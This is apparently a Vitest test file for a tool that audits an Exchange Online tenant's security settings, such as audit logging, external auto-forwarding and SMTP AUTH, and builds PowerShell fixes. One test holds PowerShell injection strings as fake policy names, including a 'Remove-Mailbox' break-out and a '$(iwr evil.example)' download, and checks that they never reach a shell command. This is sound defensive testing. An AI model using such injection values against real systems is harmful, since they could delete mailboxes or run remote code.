/** Reads of Exchange as points of a tenant's posture: each good, bad or unknown. */
import { describe, expect, it } from "vitest"
import type { JsonObject } from "../../src/model/json.ts"
import { postureChecks, postureWeight } from "../../src/onboard/posture.ts"
import type { Check } from "../../src/onboard/posture-check.ts"
import { POSTURE_SOURCES, type PostureReads } from "../../src/onboard/posture-rows.ts"

type Rows = { readonly [name in keyof PostureReads]?: readonly JsonObject[] | string }

const MAILBOX = {
  PrimarySmtpAddress: "bob@contoso.com",
  RecipientTypeDetails: "UserMailbox",
  AuditEnabled: true,
  AuditLogAgeLimit: "90.00:00:00",
  AuditOwner: ["HardDelete"],
  DefaultAuditSet: ["Admin", "Delegate", "Owner"],
}
const DEFAULT_POLICY = { Name: "Default", IsDefault: true, AutoForwardingMode: "Automatic" }

const GOOD: Required<Rows> = {
  log: [{ UnifiedAuditLogIngestionEnabled: true }],
  organization: [{ AuditDisabled: false }],
  mailboxes: [MAILBOX],
  bypass: [{ Name: "bob", AuditBypassEnabled: false }],
  spamPolicies: [DEFAULT_POLICY],
  spamRules: [],
  remoteDomains: [{ DomainName: "*", AutoForwardEnabled: true }],
  transport: [{ SmtpClientAuthenticationDisabled: true }],
  clientAccess: [{ PrimarySmtpAddress: "bob@contoso.com", SmtpClientAuthenticationDisabled: null }],
}

/** What is a text couldn't be read, for that reason. */
function checksOf(over: Rows = {}): readonly Check[] {
  const { log, organization, mailboxes, bypass, ...mail } = POSTURE_SOURCES
  const { spamPolicies, spamRules, remoteDomains, transport, clientAccess } = mail
  const given = { ...GOOD, ...over }
  const read = <Row>(
    source: { readonly rowsOf: (rows: readonly JsonObject[]) => readonly Row[] },
    rows: readonly JsonObject[] | string,
  ) => (typeof rows === "string" ? { problem: rows } : { rows: source.rowsOf(rows) })
  return postureChecks({
    log: read(log, given.log),
    organization: read(organization, given.organization),
    mailboxes: read(mailboxes, given.mailboxes),
    bypass: read(bypass, given.bypass),
    spamPolicies: read(spamPolicies, given.spamPolicies),
    spamRules: read(spamRules, given.spamRules),
    remoteDomains: read(remoteDomains, given.remoteDomains),
    transport: read(transport, given.transport),
    clientAccess: read(clientAccess, given.clientAccess),
  })
}

const check = (title: RegExp, over: Rows = {}): Check | undefined =>
  checksOf(over).find((one) => title.test(one.title))

const states = (over: Rows = {}): Readonly<Record<string, string>> =>
  Object.fromEntries(checksOf(over).map(({ title, state }) => [title, state]))

describe("postureChecks()", () => {
  it("finds nothing bad in a tenant as Microsoft sets it up", () => {
    expect(new Set(Object.values(states()))).toEqual(new Set(["good"]))
    expect(postureWeight(checksOf())).toBe(0)
  })

  it("takes what isn't said for unknown, never for good or bad", () => {
    const nothing = Object.fromEntries(Object.keys(GOOD).map((name) => [name, [{}]]))
    const blank = Object.fromEntries(Object.keys(GOOD).map((name) => [name, []]))
    const odd = { transport: [{ SmtpClientAuthenticationDisabled: "" }], log: [{ Other: true }] }

    expect(new Set(Object.values(states(nothing)))).toEqual(new Set(["unknown"]))
    expect(new Set(Object.values(states(blank)))).toEqual(new Set(["unknown"]))
    expect(Object.values(states(odd)).filter((state) => state === "unknown")).toHaveLength(2)
  })

  it("keeps the reason where one thing couldn't be read, and judges the others", () => {
    const checks = checksOf({ bypass: "the role Audit Logs is missing" })

    expect(checks[0]).toMatchObject({ state: "unknown", now: "the role Audit Logs is missing" })
    expect(checks.slice(1).every(({ state }) => state === "good")).toBe(true)
  })

  it("puts what is bad first, what weighs most before the rest", () => {
    const checks = checksOf({
      log: [{ UnifiedAuditLogIngestionEnabled: "False" }],
      transport: [{ SmtpClientAuthenticationDisabled: false }],
      bypass: "not read",
    })

    expect(checks.slice(0, 3).map(({ title }) => title)).toEqual([
      "Unified audit log",
      "Sending by password (SMTP AUTH)",
      "Accounts left out of auditing",
    ])
    expect(checks[0]).toMatchObject({ state: "bad", fix: "enable-audit-log" })
  })
})

describe("mail that forwards itself outside", () => {
  const forwarding = (over: Rows) => check(/Forwarding/, over)
  const VIP = { Name: "VIP", IsDefault: false, AutoForwardingMode: "On" }
  const ruleFor = (over: JsonObject) => ({ State: "Enabled", HostedOutboundSpamFilterPolicy: "VIP", ...over })

  it("is stopped by “Off” and by “Automatic”, and told where it is allowed for everybody", () => {
    expect(forwarding({ spamPolicies: [{ ...DEFAULT_POLICY, AutoForwardingMode: "Off" }] })?.now).toBe(
      "not allowed",
    )
    expect(forwarding({})?.now).toContain("means off")
    expect(forwarding({ spamPolicies: [{ ...DEFAULT_POLICY, AutoForwardingMode: "On" }] })).toMatchObject({
      state: "bad",
      now: expect.stringContaining("ALLOWED for everybody"),
      run: 'Set-HostedOutboundSpamFilterPolicy -Identity "Default" -AutoForwardingMode Off',
    })
  })

  it.each(['x"; Remove-Mailbox bob; "', "$(iwr evil.example)", "x`u{22}", "x”; iex y; “", "-WhatIf"])(
    "writes no name into a command that a shell would run: %s",
    (Name) => {
      const spamPolicies = [{ ...DEFAULT_POLICY, Name, AutoForwardingMode: "On" }]

      expect(forwarding({ spamPolicies })?.run).toContain('-Identity "NAME" -AutoForwardingMode Off')
    },
  )

  it("names for whom another policy allows it, and knows one that is for nobody", () => {
    const spamPolicies = [DEFAULT_POLICY, VIP]
    const scoped = ruleFor({ From: ["bob@contoso.com"], FromMemberOf: "Board, Sales" })

    expect(forwarding({ spamPolicies, spamRules: [scoped] })).toMatchObject({
      state: "bad",
      now: expect.stringContaining("ALLOWED for bob@contoso.com, if also members of Board, Sales:"),
      run: expect.stringContaining('"VIP"'),
    })
    for (const rule of [ruleFor({ State: "Disabled" }), ruleFor({ HostedOutboundSpamFilterPolicy: "Other" })])
      expect(forwarding({ spamPolicies, spamRules: [rule] })?.state).toBe("good")
    expect(forwarding({ spamPolicies, spamRules: "not read" })?.state).toBe("unknown")
  })

  it("is stopped by remote domains, except to those that they allow", () => {
    const spamPolicies = [{ ...DEFAULT_POLICY, AutoForwardingMode: "On" }]
    const stopped = { DomainName: "*", AutoForwardEnabled: false }
    const partner = { DomainName: "partner.example", AutoForwardEnabled: true }

    expect(forwarding({ spamPolicies, remoteDomains: [stopped] })?.state).toBe("good")
    expect(forwarding({ spamPolicies, remoteDomains: [stopped, partner] })?.now).toMatch(
      /to partner\.example$/,
    )
    expect(forwarding({ spamPolicies, remoteDomains: "not read" })?.state).toBe("bad")
  })
})

describe("SMTP AUTH", () => {
  const smtp = (over: Rows) => check(/SMTP AUTH/, over)
  const mailbox = (name: string, off: boolean | null) => ({
    PrimarySmtpAddress: name,
    SmtpClientAuthenticationDisabled: off,
  })

  it("is told of mailboxes where it is allowed although the organization's is off", () => {
    const clientAccess = [mailbox("scanner@contoso.com", false), mailbox("bob@contoso.com", null)]

    expect(smtp({ clientAccess })).toMatchObject({
      state: "bad",
      now: "off, but ALLOWED for 1 of 2: scanner@contoso.com",
    })
    expect(smtp({ clientAccess: "not read" })).toMatchObject({ state: "unknown" })
  })

  it("is told of everybody where the organization's is on, whatever mailboxes say", () => {
    const transport = [{ SmtpClientAuthenticationDisabled: false }]

    expect(smtp({ transport, clientAccess: [mailbox("bob@contoso.com", true)] })).toMatchObject({
      state: "bad",
      now: expect.stringContaining("(1 of 1 are)"),
    })
    expect(smtp({ transport, clientAccess: "not read" })?.state).toBe("bad")
  })
})

describe("what mailboxes record", () => {
  const owner = (over: JsonObject) =>
    check(/owners do themselves/, { mailboxes: [{ ...MAILBOX, ...over }, MAILBOX] })

  it("misses of an owner's acts what a list of one's own leaves out", () => {
    const own = {
      DefaultAuditSet: "Admin, Delegate",
      AuditOwner: ["MailboxLogin", "harddelete", "SoftDelete"],
    }

    expect(owner(own)).toMatchObject({
      state: "bad",
      now: "not all of it is recorded, so that a thief who signs in as the owner isn't seen: 1 of 2: bob@contoso.com",
      detail: "MailItemsAccessed, MoveToDeletedItems, UpdateFolderPermissions, UpdateInboxRules",
    })
    expect(owner({ DefaultAuditSet: null, AuditOwner: null })).toMatchObject({
      state: "unknown",
      now: expect.stringContaining("of 1 more Exchange didn't say"),
    })
    expect(owner({ ...own, RecipientTypeDetails: "DiscoveryMailbox" })?.state).toBe("good")
  })

  it.each([
    ["00:00:00", "bad"],
    ["30.00:00:00", "bad"],
    ["90.00:00:00", "good"],
    ["3650.00:00:00", "good"],
    ["for ever", "unknown"],
  ])("keeps %s: %s", (AuditLogAgeLimit, state) => {
    expect(check(/Age of mailbox logs/, { mailboxes: [{ ...MAILBOX, AuditLogAgeLimit }] })?.state).toBe(state)
  })
})
